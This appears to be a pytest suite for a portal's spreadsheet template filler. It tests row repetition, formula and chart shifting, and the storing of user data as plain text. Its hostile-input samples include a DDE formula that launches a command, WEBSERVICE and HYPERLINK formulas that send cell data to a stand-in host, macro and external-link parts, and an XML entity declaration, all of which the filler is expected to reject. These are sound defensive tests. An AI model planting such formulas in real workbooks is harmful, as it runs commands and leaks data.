"""Filled templates opened again, and templates that would hurt: refused in words."""

from __future__ import annotations

import datetime as dt
import io
import zipfile
from typing import TYPE_CHECKING, Any

import openpyxl
import pytest
from openpyxl.chart import BarChart, Reference
from openpyxl.formatting.rule import CellIsRule
from openpyxl.styles import Font, PatternFill

from portal.errors import Invalid
from portal.spreadsheets.fill import Field, Filled, Table, fill_workbook
from portal.spreadsheets.sheets import Kind

if TYPE_CHECKING:
    from collections.abc import Callable

DAY = dt.date(2026, 9, 1)
VALUES = {"title": "=1+1", "as_of": DAY, "rows": 3}
COLUMNS = (
    Field(title="ФИО"),
    Field(title="Принят", kind=Kind.DATE),
    Field(title="Стаж: лет", kind=Kind.NUMBER),
    Field(title="Основная", kind=Kind.FLAG, labels=("да", "нет")),
)
LIVE = ("=HYPERLINK(1)", "+7900", "-1+1", "@SUM(A1)", "#N/A", "{{ title }}")


def table(*names: str, sheet: str = "Список") -> Table:
    rows = [(name, "2020-02-03", 1.5, True) for name in names]
    return Table(sheet=sheet, columns=COLUMNS, rows=rows)


def packed(make: Callable[[Any], None]) -> bytes:
    made = openpyxl.Workbook()
    make(made.active)
    content = io.BytesIO()
    made.save(content)
    return content.getvalue()


def plain(sheet: Any) -> None:
    sheet["A1"] = "{{ title }} на {{ as_of }}"
    sheet["A3"], sheet["B3"], sheet["C3"] = (
        "{{ row.ФИО }}",
        "{{ row.Принят }}",
        "{{row.стаж:  лет}}",
    )
    sheet["D3"] = "{{ row.Основная }}: {{ row.Стаж: лет }}"
    sheet["A3"].font, sheet.row_dimensions[3].height = Font(bold=True), 30
    sheet.merge_cells("D3:E3")
    sheet["C4"] = "{{ sum.Стаж: лет }}"
    sheet.merge_cells("A6:C6")
    sheet["A6"] = "=SUM(C3:C3)"
    sheet.row_dimensions[6].height = 50


def opened(filled: Filled) -> Any:
    return openpyxl.load_workbook(io.BytesIO(filled.content)).worksheets[0]


def test_the_row_is_repeated_with_its_look_and_the_rest_moves_down() -> None:
    sheet = opened(fill_workbook(packed(plain), VALUES, [table("а", "б", "в")]))
    assert [sheet.cell(row, 1).value for row in range(3, 6)] == ["а", "б", "в"]
    assert all(sheet.cell(row, 1).font.b for row in range(3, 6))
    assert [sheet.row_dimensions[row].height for row in (3, 4, 5, 8)] == [30, 30, 30, 50]
    assert {str(area) for area in sheet.merged_cells.ranges} == {"D3:E3", "D4:E4", "D5:E5", "A8:C8"}
    assert sheet["C6"].value == "=SUBTOTAL(109,C3:C5)"
    assert sheet["A8"].value == "=SUM(C3:C5)"
    assert sheet["B4"].value == dt.datetime(2020, 2, 3)  # noqa: DTZ001 - a spreadsheet's own
    assert sheet["C5"].value == 1.5
    assert sheet["D5"].value == "да: 1,5"
    assert sheet["A1"].value == "=1+1 на 01.09.2026"
    assert sheet["A1"].data_type == "s"


def test_data_is_never_a_formula_and_never_a_placeholder() -> None:
    sheet = opened(fill_workbook(packed(plain), VALUES, [table(*LIVE)]))
    cells = [sheet.cell(row, 1) for row in range(3, 3 + len(LIVE))]
    assert [cell.value for cell in cells] == list(LIVE)
    assert {cell.data_type for cell in cells} == {"s"}


def test_without_rows_the_row_stays_empty() -> None:
    sheet = opened(fill_workbook(packed(plain), VALUES, [table()]))
    assert [cell.value for cell in sheet[3]] == [None] * 5
    assert sheet["C4"].value == "=SUBTOTAL(109,C3:C3)"


def test_sheets_take_the_rows_of_their_name_and_others_the_first() -> None:
    def two(sheet: Any) -> None:
        sheet.title = "Второй"
        sheet["A1"] = "{{ row.ФИО }}"
        sheet.parent.create_sheet("Чужой")["A1"] = "{{ row.ФИО }}"

    filled = fill_workbook(packed(two), VALUES, [table("п"), table("в", sheet="Второй")])
    book = openpyxl.load_workbook(io.BytesIO(filled.content))
    assert [sheet["A1"].value for sheet in book] == ["в", "п"]


def test_charts_areas_and_conditional_looks_follow_the_rows() -> None:
    def drawn(sheet: Any) -> None:
        plain(sheet)
        chart = BarChart()
        chart.add_data(Reference(sheet, min_col=3, min_row=3, max_row=3))
        sheet.add_chart(chart, "H20")
        sheet.auto_filter.ref = "A2:D3"
        sheet.print_area = "A1:E6"
        fill = PatternFill("solid", bgColor="FF0000")
        rule = CellIsRule(operator="greaterThan", formula=["$C$4"], fill=fill)
        sheet.conditional_formatting.add("C3", rule)

    filled = fill_workbook(packed(drawn), VALUES, [table("а", "б")])
    sheet = opened(filled)
    assert sheet._charts[0].series[0].val.numRef.f == "'Sheet'!$C$3:$C$4"
    assert sheet._charts[0].anchor._from.row == 20
    assert sheet.auto_filter.ref == "A2:D4"
    assert sheet.print_area.endswith("$A$1:$E$7")
    [rules] = list(sheet.conditional_formatting)
    assert str(rules.sqref) == "C3:C4"
    assert rules.rules[0].formula == ["$C$5"]
    assert len(filled.remarks) == 1


def _with_part(name: str, text: str) -> bytes:
    content = io.BytesIO(packed(plain))
    with zipfile.ZipFile(content, "a") as archive:
        archive.writestr(name, text)
    return content.getvalue()


def _formula(text: str) -> bytes:
    def make(sheet: Any) -> None:
        plain(sheet)
        sheet["F9"] = text

    return packed(make)


_LINK = '<Relationships><Relationship TargetMode="External" Target="http://x/"/></Relationships>'
HOSTILE = {
    "macros": _with_part("xl/vbaProject.bin", "x"),
    "link": _with_part("xl/worksheets/_rels/sheet9.xml.rels", _LINK),
    "other workbook": _with_part("xl/externalLinks/externalLink1.xml", "<x/>"),
    "entity": _with_part("xl/extra.xml", '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'),
    "utf-16": _with_part("xl/extra.xml", "\ufeff<x/>").replace(
        b"\xef\xbb\xbf<x/>", b"\xff\xfe<x/>."
    ),
    "webservice": _formula('=WEBSERVICE("http://x/"&A3)'),
    "new function": _formula('=_xlfn.WEBSERVICE("http://x/"&A3)'),
    "hyperlink": _formula('=HYPERLINK("http://x/"&A3)'),
    "dde": _formula("=cmd|'/c calc'!A0"),
    "other file": _formula("=[1]Лист!A1"),
    "in formula": _formula('="{{ title }}"'),
    "vertical merge": packed(lambda sheet: (plain(sheet), sheet.merge_cells("F3:F5"))[0]),
    "no zip": b"PK\x03\x04",
    "nothing": packed(lambda sheet: sheet.append(["просто"])),
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_what_could_hurt_is_refused_in_words(kind: str) -> None:
    with pytest.raises(Invalid) as refused:
        fill_workbook(HOSTILE[kind], VALUES, [table("а")])
    assert refused.value.message


def test_merged_cells_without_end_are_stopped_by_the_limits() -> None:
    content = packed(plain)
    source = zipfile.ZipFile(io.BytesIO(content))
    result = io.BytesIO()
    with zipfile.ZipFile(result, "w") as archive:
        for name in source.namelist():
            part = source.read(name)
            if name.endswith("sheet1.xml"):
                part = part.replace(b'ref="A6:C6"', b'ref="A6:XFD1048576"')
            archive.writestr(name, part)
    with pytest.raises(Invalid):
        fill_workbook(result.getvalue(), VALUES, [table("а")])


def test_mistakes_name_the_sheet_the_cell_and_what_was_meant() -> None:
    def wrong(sheet: Any) -> None:
        sheet["B2"], sheet["C7"] = "{{ row.ФИ }}", "{{ titel }}"

    with pytest.raises(Invalid) as refused:
        fill_workbook(packed(wrong), VALUES, [table("а")])
    column, name = refused.value.fields["file"]
    assert "B2" in column
    assert "ФИО" in column
    assert "C7" in name
    assert "title" in name


def test_a_column_left_out_stays_empty() -> None:
    bare = Table(sheet="S", columns=COLUMNS[:1], rows=[("а",)], left_out=("Принят", "Стаж: лет"))
    sheet = opened(
        fill_workbook(
            packed(lambda one: one.append(["{{ row.ФИО }}", "{{ row.Принят }}"])), VALUES, [bare]
        )
    )
    assert [sheet["A1"].value, sheet["B1"].value] == ["а", None]
